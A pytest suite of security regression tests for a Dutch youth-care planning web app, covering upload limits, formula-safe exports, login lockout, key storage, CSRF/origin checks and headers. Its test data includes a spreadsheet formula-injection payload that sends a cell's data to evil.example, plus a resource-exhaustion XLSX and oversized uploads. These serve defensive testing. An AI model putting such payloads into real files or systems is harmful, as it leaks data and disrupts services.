"""The security and reliability review of issue 22: one test (or more) per finding, each failing before its fix.

Database tests run on SQLite and PostgreSQL (the ``app`` fixture); see docs/security.md for the table.
"""

from __future__ import annotations

import asyncio
import inspect
import io
import logging
import os
import re
import shutil
import stat
import tempfile
import threading
import time
import zipfile
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, select

from tests.web.conftest import PASSWORDS, client_for, csrf_of, login
from web.db.models import (
    AccessLogRow,
    MedewerkerRow,
    PlanRow,
    Setting,
    ToewijzingRow,
    UserRow,
)

ROOT = Path(__file__).resolve().parents[2]
JW301 = ROOT / "sample_data" / "jw301"
SAMPLE = ROOT / "sample_data" / "flevoland"


def far_cell_xlsx() -> bytes:
    """4.7 KB: a medewerkers sheet whose <dimension> is A1:XFD1048576, with one cell at XFD1048576."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "medewerkers"
    ws.append(["id", "naam", "opleiding", "beroep", "contracturen"])
    ws["XFD1048576"] = "x"
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                data = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', data)
            z.writestr(info.filename, data)
    return out.getvalue()


def _upload(client, token, name: str, data: bytes):
    return client.post("/importeren/voorvertoning", data={"csrf_token": token}, files={"bestand": (name, data)})


def _commit_upload(client, token, name: str, data: bytes):
    page = _upload(client, token, name, data)
    assert 'id="doorvoeren"' in page.text, page.text[:3000]
    pending = re.search(r'name="token" value="([^"]+)"', page.text).group(1)
    return client.post("/importeren/doorvoeren", data={"csrf_token": token, "token": pending})


# === 1. imports =====================================================================================
def test_far_away_xlsx_cell_is_refused_quickly_in_dutch():
    from planner.importing.sources import read_source

    data = far_cell_xlsx()
    assert len(data) < 6000
    out: dict = {}

    def run():
        issues, warnings = [], []
        out["tables"] = read_source(data, "medewerkers.xlsx", issues, warnings)
        out["issues"] = issues

    worker = threading.Thread(target=run, daemon=True)  # before the fix this never ends: do not wait for it
    start = time.monotonic()
    worker.start()
    worker.join(10)
    assert not worker.is_alive(), "the XLSX reader is still busy after 10 s"
    assert time.monotonic() - start < 5
    assert out["tables"] == [] and "buiten het bereik" in out["issues"][0].reason


def test_far_away_xlsx_cell_on_the_web_is_a_dutch_preview(sqlite_app):
    client = client_for(sqlite_app)
    token = login(client, "pl")
    start = time.monotonic()
    r = _upload(client, token, "medewerkers.xlsx", far_cell_xlsx())
    assert time.monotonic() - start < 10
    assert r.status_code == 200 and "buiten het bereik" in r.text and 'id="doorvoeren"' not in r.text


def test_no_route_is_async(sqlite_app):
    """An ``async def`` route runs on the event loop: any blocking work in it stops every other request."""
    from tests.web.test_security import api_routes

    asynchronous = [r.path for r in api_routes(sqlite_app.routes) if inspect.iscoroutinefunction(r.endpoint)]
    assert asynchronous == []


def test_a_slow_import_does_not_block_other_requests(sqlite_app, monkeypatch):
    from fastapi.testclient import TestClient

    import web.routers.importeren as importeren

    real = importeren.preview_upload

    def slow(*args, **kwargs):
        time.sleep(3)
        return real(*args, **kwargs)

    monkeypatch.setattr(importeren, "preview_upload", slow)
    with TestClient(sqlite_app, raise_server_exceptions=False, follow_redirects=False) as client:  # one event loop
        token = login(client, "pl")
        done: dict = {}
        upload = threading.Thread(target=lambda: done.setdefault("r", _upload(
            client, token, "medewerkers.csv", (SAMPLE / "medewerkers.csv").read_bytes())))
        upload.start()
        time.sleep(0.8)
        start = time.monotonic()
        page = client.get("/login")
        waited = time.monotonic() - start
        upload.join(30)
    assert page.status_code in (200, 303) and waited < 1.5, f"GET /login waited {waited:.1f} s"
    assert done["r"].status_code == 200


def _session_cookie(app, key: str) -> tuple[str, str]:
    client = client_for(app)
    token = login(client, key)
    return client.cookies.get("jhp_sessie"), token


def _raw_upload(app, cookie: str, token: str, total: int, content_length: bool) -> tuple[int, int, bytes]:
    """POST a multipart upload of ``total`` bytes straight into the ASGI app; returns (status, bytes read, body)."""
    boundary = "grens"
    head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\n{token}\r\n"
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"bestand\"; filename=\"m.csv\"\r\n"
            "Content-Type: text/csv\r\n\r\n").encode()
    chunk = b"x" * (1024 * 1024)
    parts = [head] + [chunk] * (total // len(chunk)) + [f"\r\n--{boundary}--\r\n".encode()]
    size = sum(len(p) for p in parts)
    headers = [(b"host", b"testserver"), (b"cookie", f"jhp_sessie={cookie}".encode()),
               (b"content-type", f"multipart/form-data; boundary={boundary}".encode())]
    if content_length:
        headers.append((b"content-length", str(size).encode()))
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
             "path": "/importeren/voorvertoning", "raw_path": b"/importeren/voorvertoning", "query_string": b"",
             "root_path": "", "headers": headers, "client": ("testclient", 50000), "server": ("testserver", 80)}
    consumed, sent = [0], []

    async def receive():
        if parts:
            part = parts.pop(0)
            consumed[0] += len(part)
            return {"type": "http.request", "body": part, "more_body": bool(parts)}
        await asyncio.sleep(0)
        return {"type": "http.disconnect"}

    async def send(message):
        sent.append(message)

    asyncio.run(app(scope, receive, send))
    start = next(m for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return start["status"], consumed[0], body


def test_an_oversized_upload_is_refused_before_its_body_is_read(sqlite_app):
    from web.importer import MAX_BODY

    cookie, token = _session_cookie(sqlite_app, "pl")
    total = 40 * 1024 * 1024
    status, read, body = _raw_upload(sqlite_app, cookie, token, total, content_length=True)
    assert status == 413 and read == 0 and "te groot" in body.decode()
    status, read, body = _raw_upload(sqlite_app, cookie, token, total, content_length=False)  # chunked: no length
    assert status == 413 and read <= MAX_BODY + 2 * 1024 * 1024 and "te groot" in body.decode()


def test_a_viewers_upload_is_refused_before_any_parsing(sqlite_app):
    cookie, token = _session_cookie(sqlite_app, "vw")
    status, read, body = _raw_upload(sqlite_app, cookie, token, 8 * 1024 * 1024, content_length=True)
    assert status == 403 and read == 0 and "rol" in body.decode()


def test_a_multi_file_commit_is_atomic_across_a_kill(tmp_path, monkeypatch):
    """A JW301 commit writes several files; a kill between two swaps must not leave a mixed bundle."""
    import planner.importing.commit as commit_mod
    from planner.importing import commit_import, preview_import

    monkeypatch.setenv("JHP_BSN_KEY", "een-sleutel-van-minstens-16-tekens")
    bundle = tmp_path / "b"
    shutil.copytree(SAMPLE, bundle)
    message = (JW301 / "jw301-nieuwe-client.xml").read_bytes()
    preview = preview_import(bundle, message, "jw301.xml")
    assert preview.ok and len(preview.files) >= 3, preview.summary()
    real, calls = os.replace, [0]

    class Killed(BaseException):
        pass

    def dying_replace(src, dst):
        calls[0] += 1
        if calls[0] == 3:  # after the journal (if any) and one or two files: the process is killed
            raise Killed()
        return real(src, dst)

    monkeypatch.setattr(commit_mod.os, "replace", dying_replace)
    with pytest.raises(Killed):
        commit_import(bundle, preview)
    monkeypatch.setattr(commit_mod.os, "replace", real)
    # the next import (or preview) finds the bundle whole: every file of the killed commit is in place
    again = preview_import(bundle, message, "jw301.xml")
    for rel, text in preview.files.items():
        assert (bundle / rel).read_text("utf-8") == text, f"{rel} is not the committed version"
    assert again.ok, again.summary()  # re-importing the same message is not refused
    assert not list(bundle.glob(".*.tmp")) and not (bundle / ".import-journal.json").exists()


def test_leftover_import_temp_folders_are_removed_at_startup(tmp_path, small_bundle):
    from tests.web.conftest import make_app

    old = Path(tempfile.mkdtemp(prefix="jhp-web-import-"))
    (old / "jeugdigen.csv").write_text("id,gezin_id,initialen\nJ1,G1,A.B.\n", "utf-8")
    hour_ago = time.time() - 3600
    os.utime(old, (hour_ago, hour_ago))
    fresh = Path(tempfile.mkdtemp(prefix="jhp-web-import-"))  # may belong to an import running right now
    try:
        app = make_app(f"sqlite:///{tmp_path / 'a.sqlite'}", small_bundle)
        app.state.store.engine.dispose()
        assert not old.exists() and fresh.exists()
    finally:
        shutil.rmtree(old, ignore_errors=True)
        shutil.rmtree(fresh, ignore_errors=True)


# === 2. exports =====================================================================================
EVIL = '=HYPERLINK("http://evil.example/?d="&C2,"Rooster")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _evil_solved():
    from tests.export_fixtures import solved

    b, plan = solved()
    staff = dict(b.staff)
    names = [EVIL, "-2+3", "+31 6 1234", "@SUM(A1:A9)"]
    for i, sid in enumerate(sorted(staff)):
        staff[sid] = replace(staff[sid], name=names[i % len(names)])
    b2 = replace(b, staff=staff, groups={k: replace(g, name="=1+1", location="-locatie") for k, g in b.groups.items()},
                 teams={k: replace(t, name="@team") for k, t in b.teams.items()})
    return b2, plan


def test_no_xlsx_cell_in_any_sheet_is_a_formula():
    from openpyxl import load_workbook

    from planner.export.xlsx import xlsx_bytes

    b, plan = _evil_solved()
    wb = load_workbook(io.BytesIO(xlsx_bytes(b, plan)))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (ws.title, cell.coordinate, cell.value)
                    if "evil.example" in cell.value:
                        seen.add(ws.title)
    assert {"Per medewerker", "Alle opdrachten"} <= seen  # the names are there, as text


def test_no_csv_cell_starts_a_formula():
    import csv

    from planner.export.csv_export import assignments_csv

    b, plan = _evil_solved()
    rows = list(csv.reader(io.StringIO(assignments_csv(plan, b)), delimiter=";"))
    cells = [c for row in rows[1:] for c in row]
    assert any("-2+3" in c for c in cells) and any("evil.example" in c for c in cells)
    bad = [c for c in cells if c.startswith(FORMULA_START)]
    assert not bad, bad[:5]


# === 3. logins and sessions =========================================================================
def _try_login(client, username: str, password: str):
    token = csrf_of(client.get("/login").text)
    return client.post("/login", data={"username": username, "password": password, "csrf_token": token})


def test_login_is_locked_after_repeated_failures(app):
    client = client_for(app)
    for _ in range(30):
        assert _try_login(client, "tl", "fout-wachtwoord").status_code in (401, 429)
    r = _try_login(client, "tl", PASSWORDS["tl"])
    assert r.status_code == 429 and "Te veel mislukte inlogpogingen" in r.text
    assert client.get("/").status_code == 303  # not logged in
    # the lock is per user name: another user from another address still logs in
    other = client_for(app)
    other.__init__(app, follow_redirects=False, raise_server_exceptions=False, client=("10.0.0.9", 1234))
    assert _try_login(other, "pl", PASSWORDS["pl"]).status_code == 303


def test_login_is_throttled_per_ip_address(app):
    from fastapi.testclient import TestClient

    client = TestClient(app, follow_redirects=False, raise_server_exceptions=False, client=("10.0.0.7", 1))
    for i in range(25):  # a different user name each time: only the address ties them together
        _try_login(client, f"gok{i}", "fout-wachtwoord")
    r = _try_login(client, "pl", PASSWORDS["pl"])
    assert r.status_code == 429 and "Te veel mislukte inlogpogingen" in r.text
    elsewhere = TestClient(app, follow_redirects=False, raise_server_exceptions=False, client=("10.0.0.8", 1))
    assert _try_login(elsewhere, "pl", PASSWORDS["pl"]).status_code == 303


def test_a_saved_cookie_does_not_work_after_logout(app):
    from web.featuretables import ScenarioRow

    client = client_for(app)
    token = login(client, "pl")
    saved = client.cookies.get("jhp_sessie")
    assert client.get("/clienten").status_code == 200
    assert client.post("/logout", data={"csrf_token": token}).status_code == 303
    thief = client_for(app)
    thief.cookies.set("jhp_sessie", saved)
    assert thief.get("/clienten").status_code == 303
    r = thief.post("/wat-als/scenarios", data={"csrf_token": token, "naam": "na uitloggen"})
    assert r.status_code in (303, 403) and r.headers.get("location") in (None, "/login")
    with app.state.store.session() as s:
        assert s.scalar(select(func.count()).select_from(ScenarioRow)) == 0


def test_cli_user_list_disable_and_passwd(app, monkeypatch):
    from typer.testing import CliRunner

    import planner.cli_web  # noqa: F401 - registers 'user'
    from planner.cli import app as cli

    monkeypatch.setenv("DATABASE_URL", str(app.state.store.engine.url.render_as_string(hide_password=False)))
    runner = CliRunner()
    vw = client_for(app)
    login(vw, "vw")
    pl = client_for(app)
    login(pl, "pl")
    listed = runner.invoke(cli, ["user", "list"])
    assert listed.exit_code == 0 and re.search(r"^vw\tviewer\t.*\tactief$", listed.output, re.M), listed.output
    assert runner.invoke(cli, ["user", "disable", "vw"]).exit_code == 0
    assert vw.get("/clienten").status_code == 303  # its session ended at once
    assert _try_login(client_for(app), "vw", PASSWORDS["vw"]).status_code == 401
    assert "uitgeschakeld" in runner.invoke(cli, ["user", "list"]).output
    r = runner.invoke(cli, ["user", "passwd", "pl", "--password", "een-nieuw-wachtwoord"])
    assert r.exit_code == 0, r.output
    assert pl.get("/clienten").status_code == 303
    assert _try_login(client_for(app), "pl", PASSWORDS["pl"]).status_code == 401
    assert _try_login(client_for(app), "pl", "een-nieuw-wachtwoord").status_code == 303
    assert runner.invoke(cli, ["user", "disable", "niemand"]).exit_code == 2


def test_teamleider_manages_users_on_a_page(app):
    tl = client_for(app)
    token = login(tl, "tl")
    page = tl.get("/gebruikers")
    assert page.status_code == 200 and "vw" in page.text and "alleen lezen" in page.text
    planner = client_for(app)
    login(planner, "pl")
    assert planner.get("/gebruikers").status_code == 403
    with app.state.store.session() as s:
        vw_id = s.scalar(select(UserRow.id).where(UserRow.username == "vw"))
        pl_id = s.scalar(select(UserRow.id).where(UserRow.username == "pl"))
    viewer = client_for(app)
    login(viewer, "vw")
    assert tl.post(f"/gebruikers/{vw_id}/actief", data={"csrf_token": token, "actief": "nee"}).status_code == 303
    assert viewer.get("/").status_code == 303
    assert tl.post(f"/gebruikers/{pl_id}/wachtwoord", data={"csrf_token": token, "wachtwoord": "kort"}).status_code == 422
    assert tl.post(f"/gebruikers/{pl_id}/wachtwoord",
                   data={"csrf_token": token, "wachtwoord": "planner-nieuw-ww"}).status_code == 303
    assert planner.get("/").status_code == 303
    r = tl.post("/gebruikers", data={"csrf_token": token, "gebruikersnaam": "anna", "rol": "planner",
                                     "wachtwoord": "anna-wachtwoord"})
    assert r.status_code == 303 and _try_login(client_for(app), "anna", "anna-wachtwoord").status_code == 303


# === 4. keys =========================================================================================
def test_keys_live_outside_the_database(tmp_path, monkeypatch, caplog, small_bundle):
    from web.app import create_app
    from web.featuretables import ImportSideFileRow
    from web.security import create_user
    from web.seed import seed_if_empty

    keys = tmp_path / "sleutels"
    monkeypatch.setenv("JHP_KEY_DIR", str(keys))
    monkeypatch.delenv("JHP_SECRET_KEY", raising=False)
    monkeypatch.delenv("JHP_BSN_KEY", raising=False)
    with caplog.at_level(logging.WARNING):
        app = create_app(f"sqlite:///{tmp_path / 'k.sqlite'}", solver_workers=1)
    warned = " ".join(r.getMessage() for r in caplog.records)
    assert "JHP_SECRET_KEY" in warned and "JHP_BSN_KEY" in warned and str(keys) in warned
    for name in ("sessie.key", "bsn.key"):
        assert stat.S_IMODE((keys / name).stat().st_mode) == 0o600
    seed_if_empty(app.state.store, small_bundle)
    with app.state.store.session() as s:
        create_user(s, "tl", PASSWORDS["tl"], "teamleider")
        assert s.get(Setting, "secret_key") is None
    client = client_for(app)
    token = login(client, "tl")
    done = _commit_upload(client, token, "jw301.xml", (JW301 / "jw301-nieuwe-client.xml").read_bytes())
    assert done.status_code == 200
    with app.state.store.session() as s:
        paths = set(s.scalars(select(ImportSideFileRow.path)))
    assert "private/bsn_index.csv" in paths and "private/bsn.key" not in paths
    assert (keys / "bsn.key").read_text().strip() not in str([s for s in paths])
    # a second start reads the same keys and warns no more
    caplog.clear()
    with caplog.at_level(logging.WARNING):
        create_app(f"sqlite:///{tmp_path / 'k.sqlite'}", solver_workers=1).state.store.engine.dispose()
    assert not [r for r in caplog.records if "JHP_" in r.getMessage()]
    app.state.store.engine.dispose()


def test_a_bsn_key_in_an_old_database_moves_to_the_key_file(tmp_path, monkeypatch):
    from web.app import create_app
    from web.db.engine import make_engine, upgrade
    from web.featuretables import ImportSideFileRow
    from web.store import Store

    monkeypatch.setenv("JHP_KEY_DIR", str(tmp_path / "sleutels"))
    monkeypatch.delenv("JHP_BSN_KEY", raising=False)
    url = f"sqlite:///{tmp_path / 'oud.sqlite'}"
    engine = make_engine(url)
    upgrade(engine)
    with Store(engine).session() as s:
        s.add(ImportSideFileRow(path="private/bsn.key", content="ab" * 32 + "\n", updated_at=datetime.now()))
        s.add(Setting(key="secret_key", value="oud-geheim"))
    engine.dispose()
    app = create_app(url, solver_workers=1, secret_key="x")
    with app.state.store.session() as s:
        assert s.get(ImportSideFileRow, "private/bsn.key") is None
    assert (tmp_path / "sleutels" / "bsn.key").read_text().strip() == "ab" * 32
    app.state.store.engine.dispose()


# === 5. data integrity ===============================================================================
def _referenced(app) -> tuple[str, str, str]:
    """(toewijzing, its executor, another medewerker): gives the first toewijzing an executor when it has none."""
    with app.state.store.session() as s:
        row = s.scalar(select(ToewijzingRow).order_by(ToewijzingRow.id))
        ids = sorted(s.scalars(select(MedewerkerRow.id)))
        if not row.current_executor_id:
            row.current_executor_id = ids[0]
            app.state.store.bump(s)
        return row.id, row.current_executor_id, next(i for i in ids if i != row.current_executor_id)


def test_a_referenced_medewerker_is_only_deleted_after_reassignment(app):
    tid, staff_id, other = _referenced(app)
    client = client_for(app)
    token = login(client, "tl")
    r = client.post(f"/medewerkers/{staff_id}/verwijderen", data={"csrf_token": token})
    assert r.status_code == 409 and "Draag ze eerst over" in r.text and tid in r.text and 'name="overdragen_aan"' in r.text
    with app.state.store.session() as s:
        assert s.get(MedewerkerRow, staff_id) is not None
    bad = client.post(f"/medewerkers/{staff_id}/verwijderen", data={"csrf_token": token, "overdragen_aan": "M-NIET"})
    assert bad.status_code == 409 and "bestaande medewerker" in bad.text
    ok = client.post(f"/medewerkers/{staff_id}/verwijderen", data={"csrf_token": token, "overdragen_aan": other})
    assert ok.status_code == 303
    with app.state.store.session() as s:
        assert s.get(MedewerkerRow, staff_id) is None
        assert s.get(ToewijzingRow, tid).current_executor_id == other
        left = s.scalar(select(func.count()).select_from(ToewijzingRow).where(
            (ToewijzingRow.current_executor_id == staff_id) | (ToewijzingRow.current_responsible_id == staff_id)))
        assert left == 0
    # and the next import is not blocked by a leftover reference
    header = "id,naam,opleiding,beroep,registraties,certificeringen,contracturen,teams\n"
    team = sorted(app.state.store.bundle()[0].teams)[0]
    page = _upload(client, token, "medewerkers.csv", (header + f"M9001,Nieuw,hbo,jeugdzorgwerker,SKJ,,36,{team}\n").encode())
    assert 'id="doorvoeren"' in page.text, page.text[:3000]


def test_a_toewijzing_gets_only_a_known_team(app):
    client = client_for(app)
    token = login(client, "pl")
    with app.state.store.session() as s:
        row = s.scalar(select(ToewijzingRow).order_by(ToewijzingRow.id))
        tid, version, team = row.id, row.version, row.team_id
    r = client.post(f"/clienten/toewijzingen/{tid}", data={"csrf_token": token, "version": str(version),
                                                          "einddatum": row.end.isoformat(), "team_id": "T-BESTAAT-NIET"})
    assert r.status_code == 422 and "Onbekend team" in r.text
    with app.state.store.session() as s:
        assert s.get(ToewijzingRow, tid).team_id == team


def test_a_jw301_withdrawal_is_applied_on_commit(app, monkeypatch):
    from planner.plan import CaseAssignment, Plan

    monkeypatch.setenv("JHP_BSN_KEY", "een-sleutel-van-minstens-16-tekens")
    client = client_for(app)
    token = login(client, "tl")
    assert _commit_upload(client, token, "a.xml", (JW301 / "jw301-nieuwe-client.xml").read_bytes()).status_code == 200
    with app.state.store.session() as s:
        assert s.get(ToewijzingRow, "TW-810002") is not None
        staff = sorted(s.scalars(select(MedewerkerRow.id)))[0]
        plan = Plan(date(2026, 12, 7), 1)
        plan.caseload = [CaseAssignment("TW-810002", (staff,), None)]
        now = datetime.now()
        s.add(PlanRow(label="", period_start=plan.period_start, weeks=1, status="concept", data=plan.to_json(),
                      report={}, solve={}, created_by="tl", created_at=now, updated_at=now))
    done = _commit_upload(client, token, "b.xml", (JW301 / "jw301-wijziging.xml").read_bytes())
    assert done.status_code == 200 and "1 verwijderd" in done.text, done.text[:2000]
    with app.state.store.session() as s:
        assert s.get(ToewijzingRow, "TW-810002") is None
        plan_id = s.scalar(select(func.max(PlanRow.id)))
        assert ("ingetrokken", "toewijzing") in {(a.action, a.record_type) for a in s.scalars(
            select(AccessLogRow).where(AccessLogRow.record_id == "TW-810002"))}
    page = client.get(f"/plannen/{plan_id}")
    assert 'id="verouderd"' in page.text and "TW-810002" in page.text


# === 6. errors =======================================================================================
def test_malformed_files_give_dutch_errors_never_a_trace(sqlite_app):
    from typer.testing import CliRunner

    from planner.cli import app as cli

    bad_xml = (JW301 / "jw301-nieuwe-client.xml").read_bytes().replace(b'encoding="UTF-8"', b'encoding="ebcdic"', 1)
    assert b"ebcdic" in bad_xml
    xlsx = far_cell_xlsx()
    broken = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(broken, "w") as z:
        for n in src.namelist():
            z.writestr(n, src.read(n)[:40] if n.startswith("xl/worksheets/") else src.read(n))
    client = client_for(sqlite_app)
    token = login(client, "pl")
    for name, data, words in (("bericht.xml", bad_xml, "tekencodering"),
                              ("medewerkers.xlsx", broken.getvalue(), "Excel-bestand")):
        r = _upload(client, token, name, data)
        assert r.status_code == 200 and words in r.text and "Traceback" not in r.text, (name, r.status_code)
        with tempfile.TemporaryDirectory() as tmp:
            bundle = Path(tmp) / "b"
            shutil.copytree(SAMPLE, bundle)
            (Path(tmp) / name).write_bytes(data)
            out = CliRunner().invoke(cli, ["import", str(bundle), str(Path(tmp) / name)])
        assert out.exit_code == 1 and words in out.output, (name, out.output)
        assert out.exception is None or isinstance(out.exception, SystemExit), (name, out.exception)


def test_out_of_range_ids_are_404(app):
    client = client_for(app)
    login(client, "tl")
    for path in ("/plannen/99999999999999999999999", "/plannen/2147483648", "/plannen/2147483648/week",
                 "/plannen/2147483648/export/csv", "/wat-als/scenarios/2147483648",
                 "/wat-als/vergelijking/99999999999999999999"):
        r = client.get(path)
        assert r.status_code == 404 and "Niet gevonden" in r.text, (path, r.status_code)
    assert client.get("/plannen/abc").status_code == 400


# === 7. headers and logging ==========================================================================
def test_security_headers_on_every_response(sqlite_app):
    client = client_for(sqlite_app)
    responses = [client.get("/login"), client.get("/static/app.css"), client.get("/")]
    login(client, "vw")
    responses += [client.get("/medewerkers"), client.get("/bestaat-niet")]
    for r in responses:
        csp = r.headers.get("content-security-policy", "")
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp and "unsafe-inline" not in csp, r.url
        assert r.headers["x-frame-options"] == "DENY" and r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "same-origin"


def test_a_mutation_from_another_origin_is_refused(app):
    client = client_for(app)
    token = login(client, "pl")
    form = {"csrf_token": token, "naam": "van elders"}
    r = client.post("/wat-als/scenarios", data=form, headers={"Origin": "http://evil.example"})
    assert r.status_code == 403 and "andere website" in r.text
    r = client.post("/wat-als/scenarios", data=form, headers={"Referer": "http://evil.example/pagina"})
    assert r.status_code == 403
    r = client.post("/wat-als/scenarios", data=form, headers={"Origin": "http://testserver"})
    assert r.status_code == 303


def _empty_plan(app) -> int:
    from planner.plan import Plan

    now = datetime.now()
    with app.state.store.session() as s:
        row = PlanRow(label="", period_start=date(2026, 12, 7), weeks=1, status="concept",
                      data=Plan(date(2026, 12, 7), 1).to_json(), report={}, solve={}, created_by="tl",
                      created_at=now, updated_at=now)
        s.add(row)
        s.flush()
        return row.id


def test_exports_and_group_pages_write_access_log_rows(app):
    plan_id = _empty_plan(app)
    client = client_for(app)
    login(client, "vw")
    assert client.get(f"/plannen/{plan_id}/export/csv").status_code == 200
    assert client.get("/groepen").status_code == 200
    with app.state.store.session() as s:
        rows = {(a.username, a.action, a.record_type, a.record_id) for a in s.scalars(select(AccessLogRow))}
    assert ("vw", "geëxporteerd", "plan", f"{plan_id} csv") in rows
    assert ("vw", "bekeken", "groepenlijst", "*") in rows


# === 8. scenarios ===================================================================================
def test_a_stale_scenario_form_is_refused(app):
    from web.featuretables import ScenarioRow

    client = client_for(app)
    token = login(client, "pl")
    r = client.post("/wat-als/scenarios", data={"csrf_token": token, "naam": "Samen bewerkt"})
    sid = int(r.headers["location"].rsplit("/", 1)[1])
    page = client.get(f"/wat-als/scenarios/{sid}").text
    version = re.search(r'name="version" value="(\d+)"', page).group(1)
    staff = sorted(app.state.store.bundle()[0].staff)
    first = client.post(f"/wat-als/scenarios/{sid}/wijziging", data={
        "csrf_token": token, "version": version, "soort": "medewerker_weg", "medewerker": staff[0],
        "vanaf": "2027-01-04"})
    assert first.status_code == 303, first.text[:2000]
    second = client.post(f"/wat-als/scenarios/{sid}/yaml", data={
        "csrf_token": token, "version": version, "yaml": "naam: Samen bewerkt\nwijzigingen: []\n"})
    assert second.status_code == 409 and "Iemand anders heeft dit intussen gewijzigd" in second.text
    with app.state.store.session() as s:
        assert "medewerker_weg" in s.get(ScenarioRow, sid).yaml_text


# === 9. input ========================================================================================
def test_initials_only(sqlite_app):
    from planner.domain import initials_problem
    from planner.ijw.mapping import short_initials

    assert initials_problem("Y.K.") is None and initials_problem("IJ.B.") is None
    for bad in ("Jan de Vries-Bakker", "A.B.C.D.E.", "J1", "", "...", "A B"):
        assert initials_problem(bad), bad
    assert short_initials("J.A.N.V.") == "J.A.V." and initials_problem(short_initials("A.B.C.D.E.F.G.")) is None
    client = client_for(sqlite_app)
    token = login(client, "pl")
    bundle = sqlite_app.state.store.bundle()[0]
    gezin = sorted(bundle.gezinnen)[0]
    text = ("id,gezin_id,initialen,geboortejaar,gemeente\n"
            f"J9001,{gezin},Jan de Vries-Bakker,2015,Almere\nJ9002,{gezin},Y.K.,2015,Almere\n")
    r = _upload(client, token, "jeugdigen.csv", text.encode())
    assert r.status_code == 200 and "alleen initialen" in r.text and 'id="doorvoeren"' not in r.text
